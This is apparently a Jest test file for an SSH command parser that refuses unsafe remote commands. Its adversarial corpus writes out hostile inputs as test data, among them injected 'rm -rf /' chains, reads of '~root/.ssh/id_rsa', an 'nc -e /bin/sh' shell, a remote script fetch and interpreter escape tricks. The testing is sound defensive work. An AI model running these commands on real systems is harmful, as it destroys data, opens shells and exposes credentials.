import { describe, expect, it } from '@jest/globals';
import { clusterHead, legacyScp, namesStdin, parseCommandLine, splitOptionClusters } from './ssh-command.ts';

const words = (line: string): string[] => {
  const r = parseCommandLine(line);
  if (!r.ok) throw new Error(`refused: ${r.problem}`);
  return r.words;
};

describe('parseCommandLine: words as a POSIX shell splits them', () => {
  it.each([
    ['ls -la /var/log', ['ls', '-la', '/var/log']],
    ['  df   -h\t', ['df', '-h']],
    ["cat '/var/log/orders/app log.txt'", ['cat', '/var/log/orders/app log.txt']],
    ['cat "/var/log/orders/a b"', ['cat', '/var/log/orders/a b']],
    ['cat /var/log/orders/a\\ b', ['cat', '/var/log/orders/a b']],
    ["r'm' -rf /x", ['rm', '-rf', '/x']],
    ['"r"m -rf /x', ['rm', '-rf', '/x']],
    ['\\rm -rf /x', ['rm', '-rf', '/x']],
    ["grep '' /x", ['grep', '', '/x']],
    ['grep "a\\"b" /x', ['grep', 'a"b', '/x']],
    ['grep "a\\nb" /x', ['grep', 'a\\nb', '/x']],
    ["grep 'a;b|c&d>e<f$g`h`*?[x]' /x", ['grep', 'a;b|c&d>e<f$g`h`*?[x]', '/x']],
    ['a=b', undefined],
    // Held (issue 23 review): these stay judged as the words they are.
    ["awk '{print $1}' /var/log/x", ['awk', '{print $1}', '/var/log/x']],
    ["sed -n '1,5p' /var/log/x", ['sed', '-n', '1,5p', '/var/log/x']],
    ["sed 's/foo/bar/g' /x", ['sed', 's/foo/bar/g', '/x']],
    ['python3 /opt/report.py', ['python3', '/opt/report.py']],
    ['tar tzf /var/backups/a.tgz', ['tar', 'tzf', '/var/backups/a.tgz']],
    ['git log HEAD~1', ['git', 'log', 'HEAD~1']],
    ['git status', ['git', 'status']],
    ['rsync -av /a /b', ['rsync', '-av', '/a', '/b']],
    ["cat 'x=~/y'", ['cat', 'x=~/y']],
  ])('%s', (line, expected) => {
    if (expected === undefined) expect(parseCommandLine(line).ok).toBe(false);
    else expect(words(line)).toEqual(expected);
  });
});

describe('parseCommandLine refuses what a shell would do more with (adversarial corpus)', () => {
  it.each([
    ['ls; rm -rf /', 'command list'],
    ['ls && rm -rf /', '&'],
    ['ls || rm -rf /', 'pipe'],
    ['ls | sh', 'pipe'],
    ['ls & rm -rf /', 'background'],
    ['cat /etc/passwd > /tmp/x', 'redirection'],
    ['cat < /var/backups/db.sql', 'redirection'],
    ['ls\nrm -rf /', 'newline'],
    ['ls\rrm', 'carriage return'],
    ['echo $(rm -rf /)', '$'],
    ['echo `rm -rf /`', 'substitution'],
    ['echo "$(rm -rf /)"', '$'],
    ['echo "`id`"', 'substitution'],
    ['cat $HOME/x', '$'],
    ['cat ${X}', '$'],
    ['(rm -rf /)', 'subshell'],
    ['{ rm -rf /; }', 'brace'],
    ['cat /var/back*/db.sql', 'glob'],
    ['cat /var/backup?/db.sql', 'glob'],
    ['cat /var/[b]ackups/db.sql', 'glob'],
    ['cat /var/{backups,log}/x', 'brace'],
    ['cat ~root/.ssh/id_rsa', '~'],
    ['cat ~/x', '~'],
    ['FOO=1 rm -rf /', 'environment assignment'],
    ['PATH=/tmp ls', 'environment assignment'],
    ['sh -c "rm -rf /"', 'sh runs another command'],
    ['bash -c id', 'bash runs another command'],
    ['/bin/sh -c id', 'sh runs another command'],
    ['"/bin/ba"sh -c id', 'bash runs another command'],
    ['env rm -rf /', 'env runs'],
    ['sudo rm -rf /', 'sudo runs'],
    ['xargs rm', 'xargs runs'],
    ['nohup rm -rf /', 'nohup runs'],
    ['timeout 5 rm -rf /', 'timeout runs'],
    ['exec rm -rf /', 'exec runs'],
    ['eval rm -rf /', 'eval runs'],
    ['busybox rm -rf /', 'busybox runs'],
    ['find / -exec rm {} +', 'brace'],
    ['find / -exec rm -rf', 'find -exec'],
    ['find / -execdir rm x', 'find -exec'],
    ['if true; then rm; fi', 'command list'],
    ['if rm -rf /', 'keyword'],
    ['for x in a; do rm; done', 'command list'],
    ['! rm -rf /', 'keyword'],
    ['ls #; rm -rf /', '#'],
    ['cat =rm', '='],
    ["cat 'unterminated", 'unterminated single quote'],
    ['cat "unterminated', 'unterminated double quote'],
    ['cat x\\', 'lone backslash'],
    ['cat \u0000x', 'control characters'],
    ['cat \u001b[31m', 'control characters'],
    ['', 'empty'],
    ['   ', 'empty'],
    ["''", 'empty'],
    [`cat ${'a'.repeat(20000)}`, 'longer than'],
    // Issue 23 review: differentials between these words and what sh -c runs.
    ['r\\\nm -rf /x', 'line continuation'],
    ['"r\\\nm" -rf /x', 'line continuation'],
    ["'r\nm' -rf /x", 'newline'],
    ['rm\\\r -rf /x', 'carriage return'],
    ['cat /x\u2028rm', 'line separator'],
    ['cat /x\ufffd', 'not UTF-8'],
    ['dd if=~root/.ssh/id_rsa', 'after = or :'],
    ['cp a=b:~/x /tmp', 'after = or :'],
    ["$'\\x72m' -rf /x", '$'],
    ['rm\t-rf\t/x #', '#'],
    ['sg wheel -c id', 'sg runs'],
    ['setarch x86_64 rm -rf /', 'setarch runs'],
    ['linux64 rm -rf /', 'linux64 runs'],
    ['fakeroot rm -rf /', 'fakeroot runs'],
    ['nc -e /bin/sh host 1', 'nc runs'],
    ['less /var/log/app.log', 'less runs'],
    ['vim -c ":!rm -rf /"', 'vim runs'],
    ['python3 -c "import os"', 'python3 runs program text'],
    ['python -Ic id', 'python runs program text'],
    ["perl -e 'system(1)'", 'perl runs program text'],
    ["perl -wE 'say 1'", 'perl runs program text'],
    ["ruby -e 'x'", 'ruby runs program text'],
    ["node -e 'x'", 'node runs program text'],
    ["node --eval 'x'", 'node runs program text'],
    ["php -r 'x'", 'php runs program text'],
    ["awk 'BEGIN{system(\"rm -rf /\")}'", 'awk program text'],
    ["awk '{print | \"sh\"}' /x", 'awk program text'],
    ["gawk '{print > \"/etc/x\"}' /x", 'gawk program text'],
    ["awk 'BEGIN{while((getline l < \"/var/backups/x\")>0)print l}'", 'awk program text'],
    ["tar cf /dev/null /x --checkpoint=1 --checkpoint-action=exec='rm -rf /'", 'tar runs'],
    ["tar xf a.tar --to-command='sh -c id'", 'tar runs'],
    ['tar -I "sh -c id" -xf a.tar', 'tar runs'],
    ['tar -xIf prog a.tar', 'tar runs'],
    ["rsync -e 'sh -c id' x y:", 'rsync runs'],
    ['rsync --rsync-path=id x y:', 'rsync runs'],
    ["git -c core.pager='rm -rf /' log", 'git runs'],
    ["git -c 'alias.x=!id' x", 'git runs'],
    ['git --exec-path=/tmp status', 'git runs'],
    ['git clone --upload-pack=id x y', 'git runs'],
    ["zip -T -TT 'sh -c id' a.zip x", 'zip runs'],
    ["sed '1e id' /x", 'sed runs'],
    ["sed 's/a/b/e' /x", 'sed runs'],
    ["sed 's/a/b/ge' /x", 'sed runs'],
    ["sed -n 'w /etc/x' /x", 'sed runs'],
    ["sed '1r /var/backups/x' /x", 'sed runs'],
    ['sed -f /tmp/script /x', 'sed runs'],
    ['find / -delete', 'find -exec'],
    ['find / -fprint /tmp/x', 'find -exec'],
  ])('%j', (line, why) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toContain(why);
  });
});

describe('option clusters and legacy scp', () => {
  it('splits short option clusters only', () => {
    expect(splitOptionClusters(['-rf', '--force', '-n5', '/x', '-'])).toEqual(['-r', '-f', '--force', '-n5', '/x', '-']);
  });
  it.each([
    ['scp -t /tmp/in', { operation: 'write', paths: ['/tmp/in'], recursive: false, toDirectory: false }],
    ['scp -r -d -t -- /tmp/in', { operation: 'write', paths: ['/tmp/in'], recursive: true, toDirectory: true }],
    ['scp -f /var/backups/db.sql', { operation: 'read', paths: ['/var/backups/db.sql'], recursive: false, toDirectory: false }],
    ['/usr/bin/scp -pf /var/backups/db.sql', { operation: 'read', paths: ['/var/backups/db.sql'], recursive: false, toDirectory: false }],
    // Several sources of one download (scp -O host:a host:b .): each is a path to judge.
    ['scp -f /a /b', { operation: 'read', paths: ['/a', '/b'], recursive: false, toDirectory: false }],
    ['scp -rf /a', { operation: 'read', paths: ['/a'], recursive: true, toDirectory: false }],
    ['scp /a /b', undefined],
    ['scp -t /a /b', undefined],
    ['scp -tf /a', undefined],
    ['scp -f', undefined],
  ])('%s', (line, expected) => {
    expect(legacyScp(words(line))).toEqual(expected);
  });
});

// Round 10 review: an interpreter that reads its program from stdin runs program text nobody
// judged, as inline code (-c, -e) would; refused whatever the policy says, with the fix named.
describe('interpreters reading their program from stdin are refused (round 10)', () => {
  it.each([
    // No script operand, under every name the family has.
    'perl', '/usr/bin/perl', 'perl5.36.0', 'perl5.36-x86_64-linux-gnu', 'perl -w', 'python3', 'python', 'python3.11', 'python3-dbg',
    'pypy3', 'ipython3', 'jython', '/usr/bin/python3 -I', 'ruby', 'jruby', 'node', 'nodejs', 'deno', 'bun', 'php', 'php8.2', 'php-cgi',
    'lua', 'luajit', 'lua5.4', 'texlua', 'R', 'R --vanilla', 'R --no-save -q', 'Rscript', 'dc',
    // `-`, and names of fd 0 (as text, folded, or climbing from the login directory).
    'perl -', 'perl -w -', 'python3 -', 'python3 -- -', 'ruby -', 'node -', 'lua -', 'Rscript -', 'dc -',
    'perl /dev/stdin', 'python3 /dev/fd/0', 'ruby /proc/self/fd/0', 'node /proc/thread-self/fd/0', 'perl /proc/1234/fd/0',
    'perl //dev//stdin', 'perl /dev/./stdin', 'perl /tmp/../dev/stdin', 'perl ../../../../dev/stdin', 'perl /proc/self/root/dev/stdin',
    'python3 ../../proc/self/fd/0',
    // An option's value is not the script: what is left is none.
    'python3 -W ignore', 'python3 -W ignore -', 'python3 -Wignore -', 'python3 -BW ignore', 'python3 -X dev', 'python3 -u',
    'python3 --check-hash-based-pycs always', 'perl -I /opt/lib', 'perl -I /opt/lib -', 'ruby -I lib', 'ruby -C /tmp -', 'ruby -E utf-8',
    'node --no-warnings', 'node --title x', 'node --stack-size 100', 'node -r dotenv/config', 'perl --', 'python3 --',
    // Interactive, or a debugger reading its commands from stdin, after the script.
    'python3 -i /opt/x.py', 'python3 -Bi /opt/x.py', 'perl -d /opt/x.pl', 'perl -wd /opt/x.pl', 'ruby -r debug /opt/x.rb',
    'node -i /opt/app.js', 'node --interactive', 'node inspect /opt/app.js', 'php -a', 'php --interactive',
    'lua -i /opt/x.lua', 'deno repl', 'deno jupyter', 'bun repl',
    // A file the interpreter loads as code, named as stdin.
    'node -r /dev/stdin /opt/app.js', 'node --require /dev/stdin /opt/app.js', 'node --import=/dev/stdin /opt/app.js',
    'ruby -r /dev/stdin /opt/x.rb', 'php -c /dev/stdin /opt/x.php', 'php -z /dev/stdin /opt/x.php',
    // The program file option, given stdin or nothing.
    'php -f -', 'php -f /dev/stdin', 'php -f', 'R -f -', 'R --file=/dev/stdin', 'R -f', 'dc -f -', 'dc --file /dev/stdin',
    'deno run -', 'deno run', 'bun run -',
    'awk -f -', 'awk -f /dev/stdin', 'gawk --file=-', 'gawk --file /dev/stdin', 'gawk -f- /x', 'awk -f', 'mawk -v x=1 -f -', 'gawk -E /dev/stdin',
    "gawk -i /dev/stdin '{print}'",
    // A script that is a REPL reading stdin.
    'ruby -S irb', 'ruby /usr/bin/irb', 'ruby -S pry', 'python3 /usr/bin/ipython3', 'perl -S cpan', 'perl /usr/bin/cpan',
    // Less common interpreters: no script, `-`, or an option read as taking the script.
    'julia', 'julia -', 'julia -t 4', 'julia -q /opt/x.jl', 'octave', 'octave-cli --no-gui', 'guile', 'racket', 'sbcl', 'sbcl --script',
    'clisp', 'ghci', 'runghc', 'erl', 'escript -', 'elixir', 'iex', 'groovy', 'scala', 'gnuplot', 'gnuplot -', 'm4', 'm4 -', 'csi',
    'make -f -', 'make -f /dev/stdin', 'gmake --file=-', 'make --makefile /dev/stdin', 'make -kf -', 'openssl',
    // A file server on stdin: every SFTP operation unjudged.
    '/usr/lib/openssh/sftp-server', 'sftp-server -R', 'internal-sftp', '/usr/libexec/openssh/sftp-server -l DEBUG3',
  ])('%s', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toMatch(/stdin/);
    if (!r.ok) expect(r.problem).toContain('give the script as a file argument');
  });

  it.each([
    // Wrappers in front of them are refused as the runners they are (round 8), whatever follows.
    'env python3', 'env -i perl -', 'nice perl', 'nice -n 5 python3 -', 'timeout 5 python3 -', 'xargs perl', 'nohup python3',
    'stdbuf -o0 perl', 'setsid python3', 'time perl', 'command python3', 'ionice -c3 perl', 'chrt 0 perl', 'taskset 1 perl',
    'R CMD BATCH /opt/x.R', 'R CMD sh -c id',
    // Program text inline under the wider names, and as a URL.
    "dc -e '!id'", 'dc --expression=1p', "python3-dbg -c 'import os'", "perl5.36-x86_64-linux-gnu -e 1", "php8.2 -r 'x'",
    'node --import data:text/javascript,1 /opt/app.js', 'deno run data:text/javascript,1', 'deno run https://example.com/x.ts',
    "gawk -l readfile 'BEGIN{print readfile(\"/s\")}'", "gawk -lreadfile 'BEGIN{}'", "gawk --load=readfile 'BEGIN{}'",
    'php -d auto_prepend_file=/opt/y.php /opt/x.php', 'php -dauto_prepend_file=/opt/y.php /opt/x.php', 'php -d extension=/tmp/x.so /opt/x.php',
    'php -d allow_url_include=1 /opt/x.php', 'php -d auto_prepend_file=/dev/stdin',
    "julia -e 'run(`id`)'", "octave --eval 'system(1)'", "gnuplot -e 'system(1)'", "racket -e '(system 1)'", "sbcl --eval '(x)'",
    "clisp -x '(x)'", "ghc -e 'x'", "elixir -e 'x'", "erl -eval 'x'", "guile -c '(system 1)'",
    // Refused as inline code already (the e of -rdebug reads as -e): refused either way.
    'ruby -rdebug /opt/x.rb',
  ])('%s', (line) => {
    expect(parseCommandLine(line).ok).toBe(false);
  });

  it.each([
    'python3 /opt/report.py', 'python3 -W ignore /opt/report.py', 'python3 -Wignore /opt/report.py', 'python3 -u -B /opt/x.py arg -',
    'python3 /opt/x.py -i', 'python3 -X dev /opt/x.py', 'python3 --version', 'python3 -V', 'python3 -h', 'python3 dev/tool.py',
    'python3 ./dev/stdin', 'python3 -- /opt/x.py', 'python3 /opt/x.py /dev/stdin',
    'perl /opt/x.pl', 'perl -w /opt/x.pl', 'perl -I /opt/lib /opt/x.pl', 'perl -Idir /opt/x.pl', 'perl -v', 'perl -V', 'perl -0777 -n /opt/x.pl',
    'perl -i.bak /opt/x.pl /tmp/f', 'perl5.36.0 /opt/x.pl',
    'ruby /opt/x.rb', 'ruby -I lib /opt/x.rb', 'ruby -rjson /opt/x.rb', 'ruby -v', 'ruby --version', 'ruby --disable-gems /opt/x.rb',
    'node /opt/app.js', 'node --no-warnings /opt/app.js', 'node -r dotenv/config /opt/app.js', 'node --enable-source-maps app.js',
    'node -v', 'node --version', 'node --max-old-space-size=100 app.js', 'node --title=x app.js',
    'deno run /opt/x.ts', 'deno run --allow-read /opt/x.ts', 'deno --version', 'deno x.ts', 'bun run /opt/x.ts', 'bun /opt/x.ts',
    'php /opt/x.php', 'php -f /opt/x.php', 'php -d memory_limit=1G /opt/x.php', 'php -v', 'php -m',
    'lua /opt/x.lua', 'lua -v', 'lua -l socket /opt/x.lua',
    'R -f /opt/x.R', 'R --vanilla --file=/opt/x.R', 'R --version', 'Rscript /opt/x.R', 'Rscript --vanilla /opt/x.R',
    'dc /opt/x.dc', 'dc --version',
    'julia /opt/x.jl', 'julia -O3 /opt/x.jl', 'julia --project=. /opt/x.jl', 'gnuplot /opt/plot.gp', 'm4 /opt/x.m4', 'octave /opt/x.m',
    'ruby /opt/irbtools.rb', 'python3 /opt/ipython_helper.py',
    'make', 'make -C /opt/app build', 'make -f /opt/app/Makefile', 'openssl version', 'openssl x509 -in /etc/ssl/x.pem -noout',
    "awk '{print}' /x", 'awk -f /opt/x.awk /x', 'gawk -v x=1 -f /opt/x.awk /x', "awk -F: '{print}' /etc/passwd", "awk '{print}' -",
  ])('%s is still judged as a command', (line) => {
    expect(() => words(line)).not.toThrow();
  });
});

describe('namesStdin: the operands an interpreter reads from fd 0', () => {
  it.each([
    ['-', true], ['/dev/stdin', true], ['/dev/fd/0', true], ['/proc/self/fd/0', true], ['//dev/stdin', true], ['/x/../dev/stdin', true],
    ['../dev/stdin', true], ['a/../../dev/stdin', true], ['/dev/tty', true], ['/proc/self/cwd/x.py', true],
    ['dev/stdin', false], ['./dev/stdin', false], ['a/../dev/x', false], ['/opt/dev/stdin', false], ['/opt/x.py', false], ['x.py', false],
  ])('%s → %s', (word, expected) => {
    expect(namesStdin(word)).toBe(expected);
  });
});

// Round 10b review: runners and interpreters are matched by name pattern (a base name with the
// version, build and architecture suffixes distributions add), every awk spelling of -f is read,
// and a short option cluster is read only up to its first letter that takes a value.
describe('runners and interpreters under every name they are installed as (round 10b)', () => {
  it.each([
    // Tcl, Tk and Expect, versioned (Debian's tclsh is an alternatives link to tclsh8.6).
    'tclsh8.6', 'wish8.6', 'expect5.45', 'jimsh', '/usr/bin/tclsh8.6 /opt/x.tcl', 'tclsh8.6 /opt/x.tcl',
    // Shells under package, versioned and static names, and shells whose name has no sh.
    'ksh93', 'ksh2020', 'lksh', 'mksh-static', 'bash-static', 'bash5.2', 'bash-5.2', 'zsh5', 'zsh-5.9', 'yash', 'posh', 'oksh',
    'loksh', 'pdksh', 'static-sh', 'sh.distrib', 'busybox.static', 'pwsh', 'powershell', 'pwsh -Command -', 'rc', 'es', 'hush',
    'sash', 'osh', 'ysh', 'xonsh', 'elvish', 'nu', 'ksh93 -c id', '/bin/mksh-static -c id',
    // Other runners under suffixed names, gdb's target names, perf.
    'gdb-multiarch -ex run', 'gdbserver :1 /bin/id', 'perf record id', 'perf_5.10 stat id', 'valgrind.bin id', 'nc6 -e /bin/sh h 1',
    'strace.static id', 'nohup.real id',
  ])('%s is refused as a runner', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toContain('runs another command');
  });

  it.each([
    // With no script, each reads its program from stdin.
    'raku', 'rakudo', 'perl6', 'micropython', 'ts-node', 'ts-node-esm', 'tsx', 'qjs', 'coffee', 'jrunscript', 'bb', 'ruby3.1', 'node18',
    'lua5.4', 'php8.2-dbg', 'ts-node -', 'raku /dev/stdin', 'micropython -',
  ])('%s reads its program from stdin', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toMatch(/stdin/);
  });

  it.each([
    'raku -e x', 'rakudo -e x', 'perl6 -MFoo /opt/x.p6', 'ts-node -e x', 'ts-node --eval=x /opt/x.ts', 'tsx -p x', 'micropython -c x',
    'qjs -e x', 'bb -e x', 'bb --eval x', 'coffee -e x', 'jrunscript -e x', 'ruby3.1 -e x', 'nodejs18 -e x',
  ])('%s runs program text given in its arguments', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toContain('runs program text');
  });

  it.each([
    // Names that merely start or end like a shell, a runner or gdb are not one.
    'shasum /x', 'sha256sum /x', 'shred /x', 'shuf /x', 'ssh-keygen -l -f /x', 'ssh-add -l', 'shellcheck /x', 'gdbus introspect',
    'wishlist', 'expr 1 + 1', 'nice-tool', 'dash-board', 'timeout-x', 'flash', 'push', 'lsblk', 'hashdeep /x', 'perfquery',
    // The interpreters with a script file.
    'raku /opt/x.raku', 'ts-node /opt/x.ts', 'tsx /opt/x.ts', 'micropython /opt/x.py', 'coffee /opt/x.coffee', 'bb /opt/x.clj',
    'qjs /opt/x.js', 'ruby3.1 /opt/x.rb', 'lua5.4 /opt/x.lua',
  ])('%s is still judged as a command', (line) => {
    expect(() => words(line)).not.toThrow();
  });
});

describe('every awk and make spelling of the program file option (round 10b)', () => {
  it.each([
    // mawk's -W exec FILE (the last option), abbreviated, attached, with =, in a comma list.
    'mawk -W exec /dev/stdin', 'mawk -W exec -', 'mawk -We /dev/stdin', 'mawk -W e /dev/stdin', 'mawk -Wexec /dev/stdin',
    'mawk -Wexec=/dev/stdin', 'mawk -W interactive,exec -', 'awk -We', 'awk -W exec',
    // gawk's long options, abbreviated as getopt_long allows, and as -W NAME.
    'gawk --exec /dev/stdin', 'gawk --ex=-', 'gawk --fi=-', 'gawk --f -', 'gawk --inc /dev/stdin', 'gawk -W include /dev/stdin',
    'gawk -W in /dev/stdin', 'gawk -W file=/dev/stdin',
    // -f in a cluster, after an operand (getopt may permute), and under other awk names.
    'gawk -bf -', 'awk /opt/x -f -', 'goawk -f -', 'original-awk -f -', 'busybox-awk -f -', 'mawk1.3 -f -', 'gawk-5.1 -f -',
    // The debugger reads its commands (which run awk code) from stdin.
    'gawk -D -f /opt/x.awk', 'gawk --debug -f /opt/x.awk', 'gawk -W debug -f /opt/x.awk',
    // make: abbreviated long options.
    'make --fi=-', 'make --makef /dev/stdin',
  ])('%s reads its program from stdin', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toMatch(/stdin/);
  });

  it.each(['gawk -bl readfile "{print}"', 'gawk -W load readfile "{print}"', 'gawk --lo=readfile "{print}"', 'make -E "x: ; id"', 'make --eval=x', 'make -kE x'])('%s is refused', (line) => {
    expect(parseCommandLine(line).ok).toBe(false);
  });

  it.each([
    'mawk -W interactive -f /opt/x.awk /x', 'mawk -W version', 'mawk -W dump -f /opt/x.awk', 'gawk --lint -f /opt/x.awk /x',
    'gawk --field-separator=: -f /opt/x.awk /x', 'gawk -F: -f /opt/x.awk /etc/passwd', 'awk -Fi "{print}" /x', 'gawk -d -f /opt/x.awk',
    'gawk -W posix -f /opt/x.awk', 'make -C /opt/app build', 'make -f /opt/Makefile', 'make -j4', 'make --file=/opt/Makefile', 'make -Cf build',
  ])('%s is still judged as a command', (line) => {
    expect(() => words(line)).not.toThrow();
  });
});

describe('a short option cluster is read up to its first letter that takes a value (round 10b)', () => {
  it.each([
    ['-rtime', 'IrCE', '-r'], ['-wle', 'IxiDF', '-wle'], ['-Ime', 'IxiDF', '-I'], ['-d:Peek', 'IxiDF', '-d:'], ['-W:no-experimental', 'CEFIrxi', '-W:'],
    ['-0777ne', 'IxiDF', '-0777ne'], ['--eval', 'e', ''], ['x.rb', 'e', ''], ['-', 'e', ''],
  ])('%s (valued %s) → %s', (word, valued, head) => {
    expect(clusterHead(word, valued)).toBe(head);
  });

  it.each([
    'ruby -rtime /opt/x.rb', 'ruby -rset /opt/x.rb', 'ruby -rfileutils /opt/x.rb', 'ruby -W:no-experimental /opt/x.rb', 'ruby -Eutf-8 /opt/x.rb',
    'ruby -Ilibexec /opt/x.rb', 'perl -Ime /opt/x.pl', 'perl -Iperl5lib /opt/x.pl', 'perl -i.orig-e /opt/x.pl /tmp/f', 'python3 -Ximporttime /opt/x.py',
    'python3 -Wignore::DeprecationWarning /opt/x.py', 'php -dmemory_limit=1G /opt/x.php', 'lua -lsocket /opt/x.lua', 'julia -Cnative /opt/x.jl',
    'julia -t4 /opt/x.jl', 'dc -f/opt/x.dc',
  ])('%s is judged as a script run', (line) => {
    expect(() => words(line)).not.toThrow();
  });

  it.each([
    // A code letter before the valued one still counts, clustered or in its own word.
    'ruby -rtime -e x', 'ruby -er x', 'perl -Ilib -e 1', 'perl -0777ne 1', 'perl -CSe 1', 'perl -d:Peek /opt/x.pl', 'perl -MPOSIX /opt/x.pl',
    'python3 -Ic x', 'python3 -Bm timeit', 'lua -lsocket -e x', 'php -dmemory_limit=1 -r x', 'julia -Cnative -e 1', 'ruby -ne x',
  ])('%s runs program text given in its arguments', (line) => {
    const r = parseCommandLine(line);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problem).toContain('program text');
  });
});
